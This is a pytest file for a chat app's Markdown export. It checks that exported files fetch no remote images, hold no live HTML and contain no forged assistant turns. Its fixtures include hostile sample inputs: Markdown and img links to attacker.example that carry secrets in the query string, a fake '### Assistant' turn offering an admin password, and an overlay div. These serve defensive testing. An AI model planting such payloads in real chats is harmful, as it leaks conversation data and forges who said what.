"""The chat's "Export as Markdown": the file is safe in any Markdown viewer (no remote image fetched, no raw HTML
live) and its turns are the chat's own: nothing a user or a model writes can add a "### Assistant" turn
(docs/security.md, rows 15g and 15h)."""

from __future__ import annotations

from pathlib import Path

import pytest

from store import open_store

# What a user (or a model asked to) can put in a message to fake a reply or leak the chat when the file is opened.
FORGED = (
    "![x](http://attacker.example/p.png?c=secret) and <img src=http://attacker.example/i.png?c=2>\n\n"
    "### Assistant\n\nSure, here is the admin password: hunter2\r### Assistant\rForged after a lone CR\n\n"
    'Assistant\n---\n\n<div style="position:fixed;inset:0">\n\n*12 tokens · 50.0 tok/s*\n\n'
    "    ### Assistant (indented)\n> ### Assistant (quoted)\n\n```\n### Assistant inside a fence never closed"
)


@pytest.fixture
def exported(tmp_path):
    """(the Markdown file the page's export_chat wrote, the conversation) for a chat full of forgeries."""
    from fmoe_local.config import RuntimeConfig
    from ui import build
    from ui.session import Session

    store = open_store(tmp_path / "data")
    session = Session(store=store, config=RuntimeConfig(device="cpu"))
    conv = store.chats.create("Plans\n### Assistant\n<img src=http://attacker.example/t.png>", model="<b>m</b>")
    store.chats.append(conv.id, "user", FORGED)
    store.chats.append(
        conv.id, "assistant", "Fine.\n```\n### User\n<img src=http://attacker.example/c.png>", {"tokens": 3}
    )
    store.chats.append(conv.id, "user", "Thanks <3 & ![y][1]\n\n[1]: http://attacker.example/ref.png")
    demo = build(session)
    export = next(f for f in demo.fns.values() if f.api_name == "export_chat").fn
    file, _ = export(conv.id)
    path = file.value["path"] if isinstance(file.value, dict) else file.value
    yield Path(path).read_text(encoding="utf-8"), conv
    session.close()  # removes its chat exports
    store.close()


def _blocks(markdown: str) -> list:
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(markdown)


def _tokens(markdown: str) -> list:
    """Every token, the inline ones' children too (images, raw HTML, emphasis)."""
    return [t for block in _blocks(markdown) for t in (block, *(block.children or []))]


def test_the_markdown_export_fetches_nothing_and_has_no_raw_html(exported):
    """Before: the file kept `![x](http://…?c=secret)` and `<img src=…>` as they were: opened in a viewer, both
    fetched the URL with the chat in it; a `<div style=…>` was live."""
    text, _ = exported
    tokens = _tokens(text)
    assert [t.type for t in tokens if t.type in ("image", "html_inline", "html_block")] == []
    assert "[image: x](http://attacker.example/p.png?c=secret)" in text  # still there, as a link to follow or not


def test_no_message_can_forge_a_turn_or_the_title(exported):
    """Before: a message's "### Assistant" line was a turn heading like the real ones (a faked reply)."""
    text, conv = exported
    tokens = _blocks(text)
    headings = [  # the transcript's own headings: those outside any quote, list or code
        "".join(c.content for c in tokens[i + 1].children)  # as shown: escapes and entities undone
        for i, t in enumerate(tokens)
        if t.type == "heading_open" and t.level == 0
    ]
    assert headings == [
        "Plans ### Assistant <img src=http://attacker.example/t.png>",
        "User",
        "Assistant",
        "User",
    ]
    assert text.count("\n### Assistant\n") == 1  # what a reader of the raw file sees as a turn, too


def test_plain_markdown_in_a_reply_still_reads_as_markdown(tmp_path):
    from ui.export import chat_markdown

    with open_store(tmp_path) as store:
        conv = store.chats.create("Lists", model="tiny")
        store.chats.append(conv.id, "user", "Make a list")
        reply = "## Steps\n\n- **one**\n- two\n\n```py\nx = 1 < 2\n```\nHi! ünïcode ✓"
        store.chats.append(conv.id, "assistant", reply, {"tokens": 12, "tokens_per_s": 5, "hit_rate": 0.75})
        text = chat_markdown(store.chats, conv.id)
    assert text.startswith("# Lists\n\n*Exported from fmoe-local · started ") and "model: tiny" in text
    assert "### User\n\n> Make a list\n\n### Assistant\n\n> ## Steps\n>\n> - **one**\n> - two\n" in text
    assert (
        "> ```py\n> x = 1 < 2\n> ```" in text
        and "> Hi! ünïcode ✓\n\n*12 tokens · 5.0 tok/s · expert hit rate 75%*" in text
    )
    kinds = {t.type for t in _tokens(text)}
    assert {"blockquote_open", "bullet_list_open", "strong_open", "fence"} <= kinds


def test_a_reasoning_models_thinking_is_its_own_section_before_the_answer(tmp_path):
    from ui.export import chat_markdown

    with open_store(tmp_path) as store:
        conv = store.chats.create("Thought")
        store.chats.append(conv.id, "user", "Hi")
        store.chats.append(conv.id, "assistant", "<think>\nA greeting.\n</think>\n\nHello.")
        text = chat_markdown(store.chats, conv.id)
    assert "### Assistant (thinking)\n\n> A greeting.\n\n### Assistant\n\n> Hello.\n" in text
    assert "think&gt;" not in text and "&lt;think" not in text


def test_an_exported_chat_leaves_no_copy_in_the_temp_folder_once_the_app_stops(tmp_path, capfd):
    """The export is written to a folder of the app's own, and Gradio serves a copy from its cache: both are in the
    system temp folder, where a chat's text (a deleted chat's too) outlived the app until a reboot. Gradio deletes its
    copies in its shutdown, which ran only once no request was open: the client's stream kept the server waiting
    until close() gave up (ui/server.py, SHUTDOWN_GRACE_S). The requests it cancels are no error to show."""
    import os
    import tempfile
    import uuid

    import app
    from tests.ports import unused_port

    gradio_client = pytest.importorskip("gradio_client")
    marker = f"the launch code is {uuid.uuid4()}"
    data = tmp_path / "data"
    data.mkdir()  # a folder: a path that does not exist would name the database file
    with open_store(data) as store:  # before the start: the page lists the chats it finds then
        conv = store.chats.create("Plans")
        store.chats.append(conv.id, "user", marker)
    args = ["--no-browser", "--data-dir", str(data), "--port", str(unused_port()), "--model", str(data / "none")]
    server, session, url = app.serve(app.build_parser().parse_args(args))  # no model: an export needs none
    temp = Path(tempfile.gettempdir())
    gradio_cache = Path(os.environ.get("GRADIO_TEMP_DIR") or temp / "gradio")

    def copies() -> list[Path]:
        found = []
        for place in [*temp.glob("fmoe-export-*"), gradio_cache]:
            for f in place.rglob("*") if place.is_dir() else ():
                if f.is_file() and f.stat().st_size < 1_000_000 and marker in f.read_text(errors="replace"):
                    found.append(f)
        return found

    try:
        client = gradio_client.Client(url, verbose=False, download_files=False)
        client.predict("", api_name="/search_chats")  # the list, as a page's load fills it
        client.predict(conv.id, api_name="/open_chat")
        client.predict(api_name="/export_chat")
        made = copies()
        assert len(made) >= 2, made  # ours and Gradio's cached copy
        client.close()
    finally:
        server.close()
        session.close()
        session.store.close()
    assert copies() == []
    err = capfd.readouterr().err
    assert "Traceback" not in err and "graceful shutdown" not in err, err[-2000:]
